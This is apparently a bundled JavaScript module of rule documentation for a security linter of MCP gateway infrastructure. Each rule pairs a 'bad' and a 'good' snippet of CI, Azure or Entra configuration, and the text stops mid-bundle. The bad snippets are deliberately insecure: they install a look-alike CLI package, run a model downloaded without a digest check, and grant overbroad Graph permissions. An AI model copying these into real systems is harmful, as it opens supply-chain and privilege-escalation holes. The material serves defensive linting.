"use strict";

exports.id = 6793;

exports.ids = [ 6793 ];

exports.modules = {
 74852: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const before = "on: push\npermissions: {}\njobs:\n  summarise:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n";
  const about = {
   summary: "Package or option that the official Claude CLI does not have",
   why: "Anthropic publishes its CLI on npm as `@anthropic-ai/claude-code`. `pip install claude-cli` fetches what somebody else published under a name that sounds right, and runs it beside the API key. The official `claude` has no `--api-key`, `--prompt` or `--output-file` either: a command line with them fails, or it was written for another program; and a key among the arguments is shown to every process of the machine.",
   fix: 'Install `@anthropic-ai/claude-code` from npm with its version, pass the key as `ANTHROPIC_API_KEY` in `env`, and ask with `claude -p "…" > answer.md`. The rule knows names and options that are certainly wrong, and says nothing of others.',
   securitySeverity: 6,
   references: [ "https://docs.anthropic.com/en/docs/claude-code/cli-reference" ],
   bad: {
    file: ".github/workflows/summarise.yml",
    text: `${before}      - run: pip install claude-cli==1.2.0\n`
   },
   good: {
    file: ".github/workflows/summarise.yml",
    text: `${before}      - run: npm install --global @anthropic-ai/claude-code@2.1.330\n      - env:\n          ANTHROPIC_API_KEY: \${{ secrets.ANTHROPIC_API_KEY }}\n        run: claude -p "Summarise CHANGES.md" > summary.md\n`
   }
  };
 }),
 45362: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const before = "on: push\npermissions: {}\njobs:\n  image:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n";
  const about = {
   summary: "A container image is pushed without a scan or a signature",
   why: "An image carries a system and libraries that the team did not write, and what is pushed is what clusters run. A scan before the push keeps known vulnerabilities out; a signature lets the cluster refuse images that did not come from this pipeline. The registry or another system may scan as well: this rule sees only the pipeline, so it is a note.",
   fix: "Scan the image after it is built and before it is pushed (Trivy, Grype, Microsoft Security DevOps), and sign the digest that was pushed (`cosign sign`, `notation sign`) or attest its build.",
   securitySeverity: 3,
   references: [ "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html", "https://docs.sigstore.dev/cosign/signing/signing_with_containers/" ],
   bad: {
    file: ".github/workflows/image.yml",
    text: `${before}      - run: |\n          docker build --tag registry.example.com/agent:1 .\n          docker push registry.example.com/agent:1\n`
   },
   good: {
    file: ".github/workflows/image.yml",
    text: `${before}      - run: |\n          docker build --tag registry.example.com/agent:1 .\n          trivy image --exit-code 1 --severity CRITICAL registry.example.com/agent:1\n          docker push registry.example.com/agent:1\n`
   }
  };
 }),
 78674: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const before = "on: push\npermissions: {}\njobs:\n  summarise:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n";
  const about = {
   summary: "A model is downloaded and used without a digest or a signature",
   why: "A name or an address says where a model is, not what it is: anyone who can write to the store, the hub repository or the registry chooses what the job runs, and a model can hold code that runs when it is loaded. A digest that was reviewed, a commit of the hub, or a verified signature says which content is meant.",
   fix: "After the download and before the first use, run `verify` with a manifest that was reviewed (`command: verify` of this Action or task, or `mcp-gatehouse verify`), or another check of a digest or signature. For Hugging Face, name a commit as the revision: `hf download acme/llama --revision 3f1a…`. Where the script downloads `SHA256SUMS` beside the model, the fix adds the check; such a manifest comes from the same place as the model, so one in the repository is better.",
   securitySeverity: 6.5,
   references: [ "https://cwe.mitre.org/data/definitions/494.html", "https://github.com/sigstore/model-transparency", "https://huggingface.co/docs/huggingface_hub/guides/download" ],
   bad: {
    file: ".github/workflows/summarise.yml",
    text: `${before}      - run: |\n          curl -sfL -o model.gguf https://models.example.com/summariser.gguf\n          llama-cli --model model.gguf --file prompt.txt\n`
   },
   good: {
    file: ".github/workflows/summarise.yml",
    text: `${before}      - run: |\n          curl -sfL -o model.gguf https://models.example.com/summariser.gguf\n          sha256sum --check models/summariser.sha256\n          llama-cli --model model.gguf --file prompt.txt\n`
   }
  };
 }),
 49514: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.r(__webpack_exports__);
  __webpack_require__.d(__webpack_exports__, {
   catalog: () => catalog,
   rules: () => rules
  });
  var about = __webpack_require__(52801);
  var artifacts = __webpack_require__(13104);
  // CONCATENATED MODULE: ./build/shared/lint/rules/audit-chain/alert-window.about.js
  const rule = (by, frequency) => `resource alert 'Microsoft.Insights/scheduledQueryRules@2023-12-01' = {\n  name: 'mcp-volume'\n  location: 'westeurope'\n  properties: {\n    severity: 1\n    scopes: [workspaceId]\n    evaluationFrequency: '${frequency}'\n    windowSize: 'PT1H'\n    criteria: {\n      allOf: [\n        {\n          query: '''\n            MCPAuditLog_CL\n            | where tool_name startswith "read_"\n            | summarize Reads = count() by caller_oid${by}\n            | where Reads > 100\n          '''\n          timeAggregation: 'Count'\n          operator: 'GreaterThan'\n          threshold: 0\n        }\n      ]\n    }\n    actions: { actionGroups: [actionGroupId] }\n  }\n}\n\nparam workspaceId string\nparam actionGroupId string\n`;
  const alert_window_about_about = {
   summary: "Alert on MCP calls misses events at the edge of its window",
   why: "Counts in bins of an hour begin anew with each hour: a hundred reads before the edge and a hundred after it stay below a limit of a hundred, for good. So it is with a rule that looks back less far than to its last run, and with a count over a day in a rule that is passed a quarter of an hour. `Hour > 20` lets the hour from 20:00 to 20:59 pass; the hour of `TimeGenerated` is that of UTC; and all pipelines have the same, empty, user name. Hunting queries and saved searches are left alone: people look at their results.",
   fix: "Let the rule slide: no `bin`, a window as long as the limit means, and a frequency of a few minutes. Compare hours with `>=`, in the local time of `datetime_utc_to_local`. Group by `caller_oid`.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/azure-monitor/alerts/alerts-create-log-alert-rule", "https://learn.microsoft.com/kusto/query/bin-function", "https://learn.microsoft.com/kusto/query/datetime-utc-to-local-function" ],
   bad: {
    file: "alerts.bicep",
    text: rule(", bin(TimeGenerated, 1h)", "PT1H")
   },
   good: {
    file: "alerts.bicep",
    text: rule("", "PT5M")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/audit-chain/broken-audit-chain.about.js
  const files = columns => `resource workspace 'Microsoft.OperationalInsights/workspaces@2023-09-01' = {\n  name: 'log-mcp'\n  location: 'westeurope'\n}\n\nresource table 'Microsoft.OperationalInsights/workspaces/tables@2023-09-01' = {\n  parent: workspace\n  name: 'MCPAuditLog_CL'\n  properties: {\n    schema: {\n      name: 'MCPAuditLog_CL'\n      columns: [\n        { name: 'TimeGenerated', type: 'dateTime' }\n        { name: 'caller_oid', type: 'string' }\n${columns}      ]\n    }\n  }\n}\n\nresource rule 'Microsoft.Insights/dataCollectionRules@2023-03-11' = {\n  name: 'dcr-mcp'\n  location: 'westeurope'\n  kind: 'Direct'\n  properties: {\n    streamDeclarations: {\n      'Custom-Records': {\n        columns: [\n          { name: 'timestamp', type: 'datetime' }\n          { name: 'caller_oid', type: 'string' }\n          { name: 'tool_name', type: 'string' }\n        ]\n      }\n    }\n    destinations: { logAnalytics: [{ name: 'log', workspaceResourceId: workspace.id }] }\n    dataFlows: [\n      {\n        streams: ['Custom-Records']\n        destinations: ['log']\n        outputStream: 'Custom-MCPAuditLog_CL'\n        transformKql: 'source | project TimeGenerated = timestamp, caller_oid, tool_name'\n      }\n    ]\n  }\n}\n`;
  const broken_audit_chain_about_about = {
   summary: "Records of MCP calls do not reach their table",
   why: "Between the gateway and the table lie a logger, an Event Hub, an association, a data collection rule and its transformation. Each deploys without the others, and none says that records are lost: what a transformation gives beyond the columns of the table is dropped, a record without a time is refused, and a hub without a reader drops its events after a day. Only what the repository itself declares is judged; a workspace, a hub or a table of another repository is not missed.",
   fix: "Declare the missing link. The columns of the stream, of the transformation and of the table are one list: write it once and use it three times.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/azure-monitor/logs/ingest-logs-event-hub", "https://learn.microsoft.com/azure/azure-monitor/essentials/data-collection-rule-structure" ],
   bad: {
    file: "logs.bicep",
    text: files("")
   },
   good: {
    file: "logs.bicep",
    text: files("        { name: 'tool_name', type: 'string' }\n")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/audit-chain/silent-alert.about.js
  const silent_alert_about_rule = more => `resource "azurerm_monitor_scheduled_query_rules_alert_v2" "secrets" {\n  name                 = "mcp-secrets"\n  resource_group_name  = "rg-mcp"\n  location             = "westeurope"\n  scopes               = [var.workspace_id]\n  severity             = 1\n  evaluation_frequency = "PT5M"\n  window_duration      = "PT10M"\n\n  criteria {\n    query                   = "MCPAuditLog_CL | where tool_class == 'secrets' and isnotempty(caller_upn)"\n    time_aggregation_method = "Count"\n    operator                = "GreaterThan"\n    threshold               = 0\n  }\n${more}}\n`;
  const silent_alert_about_about = {
   summary: "Alert on MCP calls is disabled or notifies no one",
   why: "A rule that is disabled, or has no action group, finds what it looks for and says nothing. So does one whose action group is disabled or has no receiver, and one whose notifications an alert processing rule takes away. A rule that reads another workspace than the records go to, and a query in a file that no rule runs, find nothing at all. In the incident behind this project the records were there for three weeks. Only rules and queries over tables of MCP calls are looked at, and queries in files only where no rule of the repository reads them.",
   fix: "Give the rule an action group with a receiver, switch both on, and let it read the workspace that the data collection rule writes into. Run each query by a rule: `mcp-gatehouse detect --emit terraform` writes rules with their queries.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/azure-monitor/alerts/action-groups" ],
   bad: {
    file: "alerts.tf",
    text: silent_alert_about_rule("")
   },
   good: {
    file: "alerts.tf",
    text: silent_alert_about_rule("\n  action {\n    action_groups = [var.action_group_id]\n  }\n")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/audit-chain/unknown-log-column.about.js
  const query = suffix => `// More than five refusals of one caller.\nMCPAuditLog_CL\n| where response_status${suffix && "_d"} == 403\n| summarize Denied = count() by caller_oid${suffix}\n| where Denied > 5\n`;
  const unknown_log_column_about_about = {
   summary: "Query over MCP calls reads a column that the table does not have",
   why: "A query that names a column which is not there does not run: the alert rule fails at each evaluation, or is never created, and no one is notified. Names with `_s` and `_d` come from the HTTP Data Collector API, whose tables were named so; a data collection rule writes the names of the record. The columns are those of the table where the repository declares it (Terraform, Bicep, ARM), and the fields of the [audit record](../call.md) for `MCPAuditLog_CL` where it does not. Tables of others are left alone.",
   fix: 'Write the names of the table. `column_ifexists("name", "")` reads a column that may be missing.',
   securitySeverity: 6.5,
   references: [ "https://learn.microsoft.com/azure/azure-monitor/logs/custom-logs-migrate", "https://learn.microsoft.com/kusto/query/column-ifexists-function" ],
   bad: {
    file: "alerts.tf",
    text: unknown_log_column_about_alert(query("_s"))
   },
   good: {
    file: "alerts.tf",
    text: unknown_log_column_about_alert(query(""))
   }
  };
  function unknown_log_column_about_alert(text) {
   return `resource "azurerm_monitor_scheduled_query_rules_alert_v2" "denials" {\n  name                 = "mcp-denials"\n  resource_group_name  = "rg-mcp"\n  location             = "westeurope"\n  scopes               = [var.workspace_id]\n  severity             = 2\n  evaluation_frequency = "PT5M"\n  window_duration      = "PT10M"\n\n  criteria {\n    query                   = <<-QUERY\n${text.replace(/^(?=.)/gm, "      ")}    QUERY\n    time_aggregation_method = "Count"\n    operator                = "GreaterThan"\n    threshold               = 0\n  }\n\n  action {\n    action_groups = [var.action_group_id]\n  }\n}\n`;
  }
  // CONCATENATED MODULE: ./build/shared/lint/rules/audit-chain/about.js
  const abouts = {
   "alert-window": alert_window_about_about,
   "broken-audit-chain": broken_audit_chain_about_about,
   "silent-alert": silent_alert_about_about,
   "unknown-log-column": unknown_log_column_about_about
  };
  var audit_chain = __webpack_require__(64687);
  // CONCATENATED MODULE: ./build/shared/lint/rules/azure-policy/evadable-policy.about.js
  const definition = tag => `{\n  "properties": {\n    "displayName": "MCP servers have a user-assigned identity",\n    "mode": "Indexed",\n    "policyRule": {\n      "if": {\n        "allOf": [\n          {"field": "type", "equals": "Microsoft.ContainerInstance/containerGroups"},\n${tag}          {"field": "identity.type", "notContains": "UserAssigned"}\n        ]\n      },\n      "then": {"effect": "Deny"}\n    }\n  }\n}\n`;
  const evadable_policy_about_about = {
   summary: "Policy for MCP servers can be evaded by leaving out a tag",
   why: "A policy that looks only at resources with a tag says nothing of those without it. A server that is set up beside the approved ones need not carry the tag; those who set it meant to comply anyway. The rule knows a policy for MCP servers by its name or text, and stays silent where another policy here demands the tag.",
   fix: "Add a policy that demands the tag of everything that looks like an MCP server: by its name, its image or the name of a container. Or leave the tag out of the condition, and let the assignment say where the policy holds.",
   securitySeverity: 7.1,
   references: [ "https://learn.microsoft.com/azure/governance/policy/concepts/definition-structure-policy-rule", "https://learn.microsoft.com/azure/governance/policy/tutorials/govern-tags" ],
   bad: {
    file: "policies/identity.json",
    text: definition('          {"field": "tags[\'MCPServer\']", "exists": "true"},\n')
   },
   good: {
    file: "policies/identity.json",
    text: definition("")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/azure-policy/policy-all-of-array.about.js
  const array = "Microsoft.ContainerInstance/containerGroups/subnetIds[*]";
  const policy_all_of_array_about_definition = test => `{\n  "properties": {\n    "displayName": "Container groups run in approved subnets only",\n    "mode": "Indexed",\n    "parameters": {"approvedSubnetIds": {"type": "Array"}},\n    "policyRule": {\n      "if": {\n        "allOf": [\n          {"field": "type", "equals": "Microsoft.ContainerInstance/containerGroups"},\n          ${test}\n        ]\n      },\n      "then": {"effect": "Deny"}\n    }\n  }\n}\n`;
  const test = `{"field": "${array}.id", "notIn": "[parameters('approvedSubnetIds')]"}`;
  const policy_all_of_array_about_about = {
   summary: "Policy fires only when every item of an array is outside the allowed list",
   why: "A test of a field with `[*]` holds when *every* item passes it. With an operator such as `notIn` the policy fires only where all items are outside of the list: one item that is allowed beside any number that are not, and nothing is denied. Tests under `not`, `count` and `where` are right, and so is one that asks whether none of the items is something; the rule speaks only where the list or the name of the policy says that it is about what is allowed.",
   fix: "Count what is not allowed: `count` over the array, the test in `where`, and `greater: 0`. An array without items is counted as 0, so say what it means in a test of its own.",
   securitySeverity: 5.9,
   references: [ "https://learn.microsoft.com/azure/governance/policy/how-to/author-policies-for-arrays" ],
   bad: {
    file: "policies/subnets.json",
    text: policy_all_of_array_about_definition(test)
   },
   good: {
    file: "policies/subnets.json",
    text: policy_all_of_array_about_definition(`{"count": {"field": "${array}", "where": ${test}}, "greater": 0}`)
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/azure-policy/unassigned-policy.about.js
  const unassigned_policy_about_definition = `resource "azurerm_policy_definition" "mcp_identity" {\n  name         = "mcp-user-assigned-identity"\n  display_name = "MCP servers have a user-assigned identity"\n  policy_type  = "Custom"\n  mode         = "Indexed"\n  policy_rule = jsonencode({\n    if = {\n      allOf = [\n        { field = "type", equals = "Microsoft.ContainerInstance/containerGroups" },\n        { field = "identity.type", notContains = "UserAssigned" }\n      ]\n    }\n    then = { effect = "Deny" }\n  })\n}\n`;
  const unassigned_policy_about_about = {
   summary: "Policy for MCP servers is not assigned, or only to a resource group",
   why: "A definition is a text in a library: Azure evaluates it where it is assigned. Assigned to the resource group of the servers it says nothing of a server that is put elsewhere, and that is the server it was written for. Where the definition is passed on as an output, another repository may assign it, and the rule stays silent.",
   fix: "Assign the policy, or an initiative that has it, to the subscription or to a management group. If another repository assigns it, ignore the finding with that reason.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/governance/policy/concepts/assignment-structure" ],
   bad: {
    file: "policy.tf",
    text: unassigned_policy_about_definition
   },
   good: {
    file: "policy.tf",
    text: `${unassigned_policy_about_definition}\nresource "azurerm_subscription_policy_assignment" "mcp_identity" {\n  name                 = "mcp-user-assigned-identity"\n  subscription_id      = "/subscriptions/\${var.subscription_id}"\n  policy_definition_id = azurerm_policy_definition.mcp_identity.id\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/azure-policy/unenforced-policy.about.js
  const unenforced_policy_about_files = mode => `targetScope = 'subscription'\n\nresource identity 'Microsoft.Authorization/policyDefinitions@2025-03-01' = {\n  name: 'mcp-user-assigned-identity'\n  properties: {\n    displayName: 'MCP servers must have a user-assigned identity'\n    mode: 'Indexed'\n    policyRule: {\n      if: {\n        allOf: [\n          { field: 'type', equals: 'Microsoft.ContainerInstance/containerGroups' }\n          { field: 'identity.type', notContains: 'UserAssigned' }\n        ]\n      }\n      then: { effect: 'Deny' }\n    }\n  }\n}\n\nresource assignment 'Microsoft.Authorization/policyAssignments@2025-03-01' = {\n  name: 'mcp-identity'\n  properties: {\n    policyDefinitionId: identity.id\n    enforcementMode: '${mode}'\n  }\n}\n`;
  const unenforced_policy_about_about = {
   summary: "Policy for MCP servers claims to deny and only reports",
   why: "An assignment with `DoNotEnforce`, or a definition with the effect `Audit` or `Disabled`, lets every deployment through. That is right while a policy is tried out. Left so, the name of the policy says that servers without an identity are refused, and they are not. An effect that is a parameter is judged by what the assignment gives it; what is not known is not reported.",
   fix: "Set `enforcementMode` to `Default` (Terraform: `enforce = true`) and the effect to `Deny` once what the policy reports has been put right. A policy that is meant to audit says so in its name.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/governance/policy/concepts/assignment-structure", "https://learn.microsoft.com/azure/governance/policy/concepts/effect-basics" ],
   bad: {
    file: "policy.bicep",
    text: unenforced_policy_about_files("DoNotEnforce")
   },
   good: {
    file: "policy.bicep",
    text: unenforced_policy_about_files("Default")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/azure-policy/weak-identity-policy.about.js
  const weak_identity_policy_about_definition = test => `{\n  "properties": {\n    "displayName": "MCP servers have an identity",\n    "mode": "Indexed",\n    "policyRule": {\n      "if": {\n        "allOf": [\n          {"field": "type", "equals": "Microsoft.ContainerInstance/containerGroups"},\n          {\n            "anyOf": [\n              {"field": "identity.type", "exists": "false"},\n              ${test}\n            ]\n          }\n        ]\n      },\n      "then": {"effect": "Deny"}\n    }\n  }\n}\n`;
  const weak_identity_policy_about_about = {
   summary: "Policy on the identity of MCP servers accepts a system-assigned one",
   why: "A system-assigned identity is a new principal each time the server is made again: roles are granted after the start by hand or too widely, they cannot be reviewed beforehand, and a registry in a network cannot be read with it. A test for `None` lets it pass. The rule evaluates the whole condition for a server with a system-assigned identity, and reports the policies that never fire for it: those for MCP servers, and those that claim to demand a user-assigned one.",
   fix: "Refuse what does not contain `UserAssigned`. Do not test for equality: a server may have both kinds, `SystemAssigned, UserAssigned`.",
   securitySeverity: 4.3,
   references: [ "https://learn.microsoft.com/entra/identity/managed-identities-azure-resources/managed-identity-best-practice-recommendations", "https://learn.microsoft.com/azure/container-instances/using-azure-container-registry-mi" ],
   bad: {
    file: "policies/identity.json",
    text: weak_identity_policy_about_definition('{"field": "identity.type", "equals": "None"}')
   },
   good: {
    file: "policies/identity.json",
    text: weak_identity_policy_about_definition('{"field": "identity.type", "notContains": "UserAssigned"}')
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/azure-policy/about.js
  const about_abouts = {
   "evadable-policy": evadable_policy_about_about,
   "policy-all-of-array": policy_all_of_array_about_about,
   "unassigned-policy": unassigned_policy_about_about,
   "unenforced-policy": unenforced_policy_about_about,
   "weak-identity-policy": weak_identity_policy_about_about
  };
  var azure_policy = __webpack_require__(47895);
  var credentials_about = __webpack_require__(42256);
  var credentials = __webpack_require__(60713);
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/broad-graph-permission.about.js
  const permission = id => `resource "azuread_application" "mcp" {\n  display_name = "MCP server"\n\n  required_resource_access {\n    resource_app_id = "00000003-0000-0000-c000-000000000000"\n\n    resource_access {\n      id   = "${id}"\n      type = "Role"\n    }\n  }\n}\n`;
  const broad_graph_permission_about_about = {
   summary: "Program may change the whole directory through Microsoft Graph",
   why: "An application permission holds without any person, for everything in the tenant. With `Application.ReadWrite.All`, `AppRoleAssignment.ReadWrite.All` or `RoleManagement.ReadWrite.Directory` a program can make itself a global administrator; with `Mail.Send` it sends mail as any user. For an MCP server that is one prompt away.",
   fix: "Ask for the narrow permission: `Application.ReadWrite.OwnedBy`, `Sites.Selected`, `Group.Create`. Where the program acts for a person, use a delegated permission.",
   securitySeverity: 8.8,
   references: [ "https://learn.microsoft.com/graph/permissions-reference", "https://learn.microsoft.com/graph/permissions-overview" ],
   bad: {
    file: "entra.tf",
    text: permission("19dbc75e-c2e2-444c-a770-ec69d8559fc7")
   },
   good: {
    file: "entra.tf",
    text: permission("18a4783c-866b-4cc7-a460-3d5e5662c884")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/client-secret-created.about.js
  const client_secret_created_about_about = {
   summary: "Code creates a client secret for an application",
   why: "A client secret is a password: it is in the Terraform state, in the output of the command and in the secret store of the CI system, and anyone who reads one of them can act as the application from anywhere. Pipelines, clusters and everything that runs in Azure can prove who they are without one.",
   fix: "Use a managed identity, or a federated credential that trusts the pipeline or the cluster. Remove the secret, and the copies of it.",
   securitySeverity: 6.5,
   references: [ "https://learn.microsoft.com/entra/workload-id/workload-identity-federation", "https://learn.microsoft.com/entra/identity-platform/howto-create-service-principal-portal" ],
   bad: {
    file: "entra.tf",
    text: 'resource "azuread_application_password" "ci" {\n  application_id = azuread_application.ci.id\n}\n\nresource "azuread_application" "ci" {\n  display_name = "ci"\n}\n'
   },
   good: {
    file: "entra.tf",
    text: 'resource "azuread_application_federated_identity_credential" "ci" {\n  application_id = azuread_application.ci.id\n  display_name   = "production"\n  audiences      = ["api://AzureADTokenExchange"]\n  issuer         = "https://token.actions.githubusercontent.com"\n  subject        = "repo:acme@1001/tools@2002:environment:production"\n}\n\nresource "azuread_application" "ci" {\n  display_name = "ci"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/conditional-access-not-enforced.about.js
  const policy = state => `resource "azuread_conditional_access_policy" "mcp_secrets" {\n  display_name = "No people for the secrets of MCP"\n  state        = "${state}"\n\n  conditions {\n    client_app_types = ["all"]\n\n    applications {\n      included_applications = ["All"]\n    }\n\n    users {\n      included_users = ["All"]\n    }\n  }\n\n  grant_controls {\n    operator          = "OR"\n    built_in_controls = ["block"]\n  }\n}\n`;
  const conditional_access_not_enforced_about_about = {
   summary: "Conditional Access policy for MCP is not enforced",
   why: "A policy in the state `enabledForReportingButNotEnforced` writes down what it would have blocked, and lets it through; one that excludes the application of the gateway never looks at it. On a checklist both look like a control.",
   fix: "Watch the report for as long as it takes, then set `state` to `enabled`. Exclude people who need it, never the application that is to be protected.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/entra/identity/conditional-access/concept-conditional-access-report-only", "https://learn.microsoft.com/entra/identity/conditional-access/concept-conditional-access-cloud-apps" ],
   bad: {
    file: "entra.tf",
    text: policy("enabledForReportingButNotEnforced")
   },
   good: {
    file: "entra.tf",
    text: policy("enabled")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/long-lived-app-credential.about.js
  const certificate = lifetime => `resource "azuread_application_certificate" "ci" {\n  application_id    = azuread_application.ci.id\n  type              = "AsymmetricX509Cert"\n  value             = filebase64("ci.cer")\n  end_date_relative = "${lifetime}"\n}\n\nresource "azuread_application" "ci" {\n  display_name = "ci"\n}\n`;
  const long_lived_app_credential_about_about = {
   summary: "Secret or certificate of an application lives longer than 90 days",
   why: "A credential that is valid for years is not rotated, and its copies are forgotten. It is then valid long after the person or the machine that had it is gone. Only what the text itself says is judged: `end_date_relative`, start and end dates, `--years`, `time_rotating`.",
   fix: "Let it end within 90 days and let the pipeline rotate it. A federated credential needs neither.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/entra/identity/enterprise-apps/configure-app-management-policies", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation" ],
   bad: {
    file: "entra.tf",
    text: certificate("17520h")
   },
   good: {
    file: "entra.tf",
    text: certificate("2160h")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/one-scope-for-all.about.js
  const scope = (value, type = "Admin") => `    oauth2_permission_scope {\n      id                         = "00000000-0000-0000-0000-00000000000${value.length % 10}"\n      value                      = "${value}"\n      type                       = "${type}"\n      admin_consent_display_name = "${value}"\n      admin_consent_description  = "${value}"\n    }\n`;
  const api = scopes => `resource "azuread_application" "gateway" {\n  display_name = "MCP gateway"\n\n  api {\n    requested_access_token_version = 2\n${scopes}  }\n}\n`;
  const one_scope_for_all_about_about = {
   summary: "API for MCP servers has one scope for everything",
   why: "With one scope such as `user_impersonation` or `access_as_user`, a token that a client requested for reading can also write, delete and read secrets: neither the gateway nor the person who consents can tell the calls apart. Only APIs for MCP servers are judged, and only where all of their scopes are known.",
   fix: "Declare a scope for each class of tools (`mcp.tools.read`, `mcp.tools.write`), and app roles for pipelines. Let the gateway ask for the one that the class of the tool needs, and give secrets to programs alone.",
   securitySeverity: 6.5,
   references: [ "https://learn.microsoft.com/entra/identity-platform/scopes-oidc", "https://learn.microsoft.com/entra/identity-platform/quickstart-configure-app-expose-web-apis" ],
   bad: {
    file: "entra.tf",
    text: api(scope("user_impersonation"))
   },
   good: {
    file: "entra.tf",
    text: api(scope("mcp.tools.read") + scope("mcp.tools.write"))
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/secrets-for-people.about.js
  const role = members => `resource "azuread_application" "gateway" {\n  display_name = "MCP gateway"\n\n  app_role {\n    id                   = "00000000-0000-0000-0000-000000000001"\n    value                = "mcp.tools.secrets"\n    display_name         = "Secrets"\n    description          = "Read secrets through the gateway"\n    allowed_member_types = [${members}]\n  }\n}\n`;
  const secrets_for_people_about_about = {
   summary: "Users can be given the permission for secrets or administration",
   why: "A person who can call tools of the class secrets can be talked into it by a prompt, and what a client reads stands in its conversation. Conditional Access cannot help for one scope of an API: it works on applications. So a scope for secrets or administration, or an app role with `User` among its allowed member types, can be given to any user.",
   fix: "Make it an app role whose `allowed_member_types` are `Application` alone. Where people have to be kept out by Conditional Access as well, give secrets an application of their own.",
   securitySeverity: 7.5,
   references: [ "https://learn.microsoft.com/entra/identity-platform/howto-add-app-roles-in-apps", "https://learn.microsoft.com/entra/identity/conditional-access/concept-conditional-access-cloud-apps" ],
   bad: {
    file: "entra.tf",
    text: role('"User", "Application"')
   },
   good: {
    file: "entra.tf",
    text: role('"Application"')
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/token-version-unset.about.js
  const app = version => `extension microsoftGraphV1\n\nresource gateway 'Microsoft.Graph/applications@v1.0' = {\n  uniqueName: 'mcp-gateway'\n  displayName: 'MCP gateway'\n  api: {\n${version}    oauth2PermissionScopes: [\n      {\n        id: guid('read')\n        value: 'mcp.tools.read'\n        type: 'Admin'\n        isEnabled: true\n        adminConsentDisplayName: 'Read'\n        adminConsentDescription: 'Read with the tools'\n      }\n      {\n        id: guid('write')\n        value: 'mcp.tools.write'\n        type: 'Admin'\n        isEnabled: true\n        adminConsentDisplayName: 'Write'\n        adminConsentDescription: 'Write with the tools'\n      }\n    ]\n  }\n}\n\nresource auth 'Microsoft.Web/sites/config@2024-04-01' = {\n  name: 'func-mcp/authsettingsV2'\n  properties: {\n    globalValidation: {\n      requireAuthentication: true\n      unauthenticatedClientAction: 'Return401'\n    }\n    identityProviders: {\n      azureActiveDirectory: {\n        enabled: true\n        registration: {\n          clientId: gateway.appId\n          openIdIssuer: 'https://login.microsoftonline.com/00000000-0000-0000-0000-000000000000/v2.0'\n        }\n      }\n    }\n  }\n}\n`;
  const token_version_unset_about_about = {
   summary: "API requests tokens of another version than the gateway accepts",
   why: "Without `requestedAccessTokenVersion` Entra issues tokens of version 1 for the API: the issuer is `https://sts.windows.net/…` and the audience its identifier URI. A gateway or an app that checks them by the metadata of version 2 refuses every call, and people then loosen the check until it works. It is reported only where the repository shows what is checked, and nothing where both issuers are accepted.",
   fix: "Set `requested_access_token_version` to 2 (`requestedAccessTokenVersion` in Bicep), and name the client id as the audience.",
   securitySeverity: 3.1,
   references: [ "https://learn.microsoft.com/entra/identity-platform/access-tokens", "https://learn.microsoft.com/entra/identity-platform/reference-app-manifest" ],
   bad: {
    file: "entra.bicep",
    text: app("")
   },
   good: {
    file: "entra.bicep",
    text: app("    requestedAccessTokenVersion: 2\n")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/user-consent-scope.about.js
  const user_consent_scope_about_scope = (value, type = "Admin") => `    oauth2_permission_scope {\n      id                         = "00000000-0000-0000-0000-00000000000${value.length % 10}"\n      value                      = "${value}"\n      type                       = "${type}"\n      admin_consent_display_name = "${value}"\n      admin_consent_description  = "${value}"\n    }\n`;
  const user_consent_scope_about_api = scopes => `resource "azuread_application" "gateway" {\n  display_name = "MCP gateway"\n\n  api {\n    requested_access_token_version = 2\n${scopes}  }\n}\n`;
  const user_consent_scope_about_about = {
   summary: "Users can consent to a scope that allows changes",
   why: "With the type `User` each person decides which client may use the scope on their behalf. A consent page that looks like the gateway is all that a phishing client needs. Scopes that only read are left alone. In Terraform `User` is the default.",
   fix: "Set `type` to `Admin`: an administrator then decides which clients may use it.",
   securitySeverity: 4.3,
   references: [ "https://learn.microsoft.com/entra/identity/enterprise-apps/user-admin-consent-overview", "https://learn.microsoft.com/entra/identity-platform/permissions-consent-overview" ],
   bad: {
    file: "entra.tf",
    text: user_consent_scope_about_api(user_consent_scope_about_scope("mcp.tools.read") + user_consent_scope_about_scope("mcp.tools.write", "User"))
   },
   good: {
    file: "entra.tf",
    text: user_consent_scope_about_api(user_consent_scope_about_scope("mcp.tools.read") + user_consent_scope_about_scope("mcp.tools.write"))
   }
  };
